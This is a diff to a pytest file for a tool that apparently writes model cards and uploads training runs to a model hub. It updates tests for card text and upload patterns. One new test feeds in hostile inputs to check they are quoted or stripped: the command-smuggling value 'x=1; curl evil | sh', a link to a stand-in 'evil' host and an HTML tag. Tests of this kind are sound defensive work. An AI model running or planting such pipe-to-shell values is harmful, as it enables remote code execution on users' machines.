@@ -32,6 +32,7 @@ def facts(**changes: Any) -> CardFacts:
         overrides=["env=pendulum", "seed=3"],
         versions={"torch": "2.13.0"},
         revision="abc",
+        model="best_model.zip",
         has_picture=True,
         has_film=False,
     )
@@ -67,16 +68,22 @@ def test_what_it_says() -> None:
 def test_what_is_not_there_is_not_shown() -> None:
     text = card(facts(has_picture=False, has_film=True, revision=None, versions={}, returns=[1.0]))
     assert "curve.png" not in text and "replay.mp4" in text and "Revision" not in text
-    assert "1.00 +/- 0.00" in text
+    assert "value: '1.00'" in text and "**Return 1.00**, one episode of" in text
 
 
 def test_a_run_that_is_not_done() -> None:
     assert "seed 3 (the run is unfinished)." in card(facts(unfinished=" (the run is unfinished)"))
 
 
-def test_settings_end_no_block() -> None:
-    text = card(facts(overrides=["env.id=x\n```\n# other"]))
-    assert "\n# other" not in text
+def test_texts_of_others_do_nothing() -> None:
+    text = card(
+        facts(
+            overrides=["env.id=x\n```\n# other", "x=1; curl evil | sh"],
+            versions={"[click](http://evil)": "<img>"},
+        )
+    )
+    assert "\n# other" not in text and "'x=1; curl evil | sh'" in text
+    assert "[click](http" not in text and " <img>" not in text
 
 
 class Hub(SimpleNamespace):
@@ -103,7 +110,7 @@ def test_an_upload(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     use(hub, monkeypatch)
     check_upload("me/agent")
     assert not hub.calls
-    upload(tmp_path, "me/agent")
+    upload(tmp_path, "me/agent", {"b": 1, "a": 2})
     (made, repository, options), (sent, _, what) = hub.calls
     assert (made, repository, options) == ("create_repo", ("me/agent",), {"exist_ok": True})
     assert (sent, what["repo_id"], what["folder_path"]) == (
@@ -111,6 +118,7 @@ def test_an_upload(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
         "me/agent",
         str(tmp_path),
     )
+    assert what["allow_patterns"] == ["a", "b"]
 
 
 @pytest.mark.parametrize("name", ["agent", "me/agent/more", "", "me /agent", "https://x/y"])
@@ -135,5 +143,5 @@ def test_no_package(monkeypatch: pytest.MonkeyPatch) -> None:
 def test_a_hub_that_refuses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     use(Hub(fails=RuntimeError("403 Forbidden\nmore")), monkeypatch)
     with pytest.raises(UserError) as refused:
-        upload(tmp_path, "me/agent")
+        upload(tmp_path, "me/agent", ["a"])
     assert str(refused.value).startswith("--upload me/agent: 403 Forbidden; the folder ")
